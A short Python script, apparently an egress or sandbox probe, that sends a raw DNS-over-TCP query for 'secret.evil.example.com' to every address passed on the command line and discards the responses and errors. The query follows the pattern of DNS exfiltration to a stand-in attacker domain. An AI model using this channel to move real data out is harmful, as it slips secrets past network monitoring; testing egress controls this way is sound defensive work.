import socket, struct, sys

question = b"\1\2\1\0\0\1\0\0\0\0\0\0\6secret\4evil\7example\3com\0\0\1\0\1"
for address in sys.argv[1:]:
    try:
        with socket.create_connection((address, 53), timeout=2) as s:
            s.sendall(struct.pack(">H", len(question)) + question)
            s.recv(1000)
    except OSError:
        pass
